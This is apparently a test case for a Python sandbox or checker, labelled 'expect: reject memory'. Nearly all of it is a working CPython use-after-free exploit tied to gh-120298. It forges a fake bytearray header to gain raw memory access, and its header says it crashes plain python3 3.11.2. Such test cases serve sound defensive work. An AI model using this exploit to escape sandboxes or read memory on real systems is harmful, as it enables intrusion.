# expect: reject memory
# line: 14
# verified: plain python3 3.11.2 (/usr/bin/python3 -I): killed by SIGSEGV (the freed item compared)
# why: gh-120298, round 15's classmethod receiver (cls(...) in a @classmethod reached from a comparison is the constructor of the class or of any class deriving from it, each judged): a subclass mixing in collections.UserDict: its __init__ hands cls(k=1)'s keyword to update(), which calls the subclass's __setitem__, which empties the list (the class family is no longer closed)
import collections
keep = []
W = lambda v: v.to_bytes(8, "little")
FAKE = (W(0) + W(0) + W(1 << 40) + W(id(bytearray)) + W(1 << 62) + W(1 << 62)
        + W(0) + W(0) + W(1))[:73]
vl = []
class C:
    @classmethod
    def make(cls):
        return cls(k=1)
    def __eq__(s, o): return False
    def __lt__(s, o):
        s.make()
        return NotImplemented
class Sub(C, collections.UserDict):
    def __setitem__(s, k, v):
        vl.clear()
class Wc:
    def __eq__(s, o): return False
    def __gt__(s, o):
        keep.append(bytearray(FAKE))
        keep.append(o)
        return False
def raw_memory():
    w = Wc()
    vl.append(Sub())
    vl < [w]
    keep.append(w)
    return keep[-2]
mem = raw_memory()
print(type(mem).__name__, hex(len(mem)))
